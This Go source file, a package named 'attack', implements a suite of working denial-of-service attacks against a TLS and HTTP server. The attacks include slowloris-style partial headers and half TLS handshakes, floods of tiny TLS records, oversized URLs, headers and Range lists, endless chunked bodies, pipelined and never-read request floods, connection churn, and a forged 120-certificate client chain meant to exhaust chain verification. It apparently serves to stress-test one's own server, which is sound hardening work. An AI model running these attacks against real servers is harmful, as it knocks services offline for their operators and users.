package attack

import (
	"context"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/tls"
	"crypto/x509"
	"crypto/x509/pkix"
	"errors"
	"fmt"
	"io"
	"math/big"
	"net"
	"strings"
	"time"
)

// kinds returns the attacks; each uses one connection.
func (a *attacker) kinds() map[string]func(context.Context) error {
	host := "\r\nHost: x\r\n"
	post := "POST " + a.Post + " HTTP/1.1" + host
	get := "GET " + a.Get + " HTTP/1.1" + host
	// send sends a text, repeats a part at an interval, and waits for the end.
	send := func(chain, text, again string, every time.Duration) func(context.Context) error {
		return func(ctx context.Context) error {
			c, err := a.dialTLS(ctx, chain)
			if err != nil {
				return err
			}
			return hold(ctx, c, text, again, every)
		}
	}
	all := map[string]func(context.Context) error{
		"silent": func(ctx context.Context) error {
			c, err := a.dial(ctx)
			if err != nil {
				return err
			}
			return hold(ctx, c, "", "", 0)
		},
		"half-hello": func(ctx context.Context) error {
			c, err := a.dial(ctx)
			if err != nil {
				return err
			}
			return hold(ctx, c, "\x16\x03\x01\x3f\xff\x01\x00\x3f\xfb", "\x00", 20*time.Millisecond)
		},
		"tiny-records": func(ctx context.Context) error {
			c, err := a.dial(ctx)
			if err != nil {
				return err
			}
			return hold(ctx, c, strings.Repeat("\x16\x03\x01\x00\x01\x01", 10_000), "", 0)
		},
		"idle":              send("", "", "", 0),
		"half-header":       send("", get+"X-A: ", "a", 500*time.Millisecond),
		"large-header":      send("", get+strings.Repeat("X-Aaaaaaaa: b\r\n", 1000), "a", time.Second),
		"huge-url":          send("", "GET /"+strings.Repeat("a", 15<<10)+" HTTP/1.1"+host+"\r\n", "", 0),
		"no-body":           send("", post+"Content-Length: 1000\r\n\r\n", "", 0),
		"expect":            send("", post+"Content-Length: 1000\r\nExpect: 100-continue\r\n\r\n", "", 0),
		"body-of-get":       send("", get+"Content-Length: 100000\r\n\r\n", "a", 100*time.Millisecond),
		"pipelined-refused": send("", strings.Repeat(post+"Content-Length: 0\r\n\r\n", 1000), "", 0),
		"never-reads":       neverRead(a, strings.Repeat(get+"\r\n", 1000)),
		"ranges":            send("", get+"Range: bytes="+strings.Repeat("0-0,", 2000)+"0-0\r\n\r\n", "", 0),
		"http2":             send("", "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\x00\x00\x00\x04\x00\x00\x00\x00\x00", "", 0),
		"long-chain":        send("long", post+"Content-Length: 0\r\n\r\n", "", 0),
		"short-chain":       send("short", strings.Repeat(post+"Content-Length: 0\r\n\r\n", 50), "", 0),
		"churn": func(ctx context.Context) error {
			c, err := a.dialTLS(ctx, "")
			if err != nil {
				return err
			}
			return c.NetConn().Close()
		},
	}
	if a.Form != "" {
		form := "POST " + a.Form + " HTTP/1.1" + host + "Content-Type: application/x-www-form-urlencoded\r\n"
		all["guess"] = send("", form+"Content-Length: 7\r\n\r\ntoken=x", "", 0)
		all["endless-chunks"] = send("", form+"Transfer-Encoding: chunked\r\n\r\n", "1;"+strings.Repeat("x", 2000)+"\r\na\r\n",
			20*time.Millisecond)
		all["form-expect"] = send("", form+"Content-Length: 1000\r\nExpect: 100-continue\r\n\r\n", "", 0)
	}
	return all
}

// hold sends text, then again at each interval, and discards answers. It returns when the
// server closes the connection or the context ends.
func hold(ctx context.Context, c net.Conn, text, again string, every time.Duration) error {
	defer context.AfterFunc(ctx, func() { _ = raw(c).Close() })()
	ended := make(chan struct{})
	go func() {
		defer close(ended)
		_, _ = io.Copy(io.Discard, c)
		_ = raw(c).Close()
	}()
	defer func() { <-ended }()
	if _, err := io.WriteString(c, text); err != nil || again == "" {
		return errors.Join(err, wait(ended))
	}
	tick := time.NewTicker(every)
	defer tick.Stop()
	for {
		select {
		case <-ended:
			return nil
		case <-tick.C:
		}
		if _, err := io.WriteString(c, again); err != nil {
			return err
		}
	}
}

func wait(ended <-chan struct{}) error {
	<-ended
	return nil
}

// neverRead sends requests and never reads an answer.
func neverRead(a *attacker, text string) func(context.Context) error {
	return func(ctx context.Context) error {
		c, err := a.dialTLS(ctx, "")
		if err != nil {
			return err
		}
		defer context.AfterFunc(ctx, func() { _ = raw(c).Close() })()
		defer func() { _ = raw(c).Close() }()
		for {
			if _, err := io.WriteString(c, text); err != nil {
				return err
			}
		}
	}
}

func raw(c net.Conn) net.Conn {
	if t, ok := c.(*tls.Conn); ok {
		return t.NetConn()
	}
	return c
}

// chains returns client certificates: one with 120 intermediates of the same name, each a
// possible issuer of the others, and one with the longest accepted chain.
func chains() map[string]*tls.Certificate {
	return map[string]*tls.Certificate{"long": chain(elliptic.P521(), 120), "short": chain(elliptic.P384(), 3)}
}

func chain(curve elliptic.Curve, n int) *tls.Certificate {
	key, err := ecdsa.GenerateKey(curve, rand.Reader)
	if err != nil {
		panic(err)
	}
	out := &tls.Certificate{PrivateKey: key}
	for i := range n + 1 {
		t := &x509.Certificate{
			SerialNumber: big.NewInt(int64(i + 1)), Subject: pkix.Name{CommonName: "between"},
			NotBefore: time.Now().Add(-time.Hour), NotAfter: time.Now().Add(24 * time.Hour),
			IsCA: i > 0, BasicConstraintsValid: true, KeyUsage: x509.KeyUsageCertSign | x509.KeyUsageDigitalSignature,
		}
		if i == 0 {
			t.Subject.CommonName = "lab-01"
			t.ExtKeyUsage = []x509.ExtKeyUsage{x509.ExtKeyUsageClientAuth}
		}
		der, err := x509.CreateCertificate(rand.Reader, t, &x509.Certificate{Subject: pkix.Name{CommonName: "between"}}, &key.PublicKey, key)
		if err != nil {
			panic(fmt.Errorf("make a chain: %w", err))
		}
		out.Certificate = append(out.Certificate, der)
	}
	return out
}
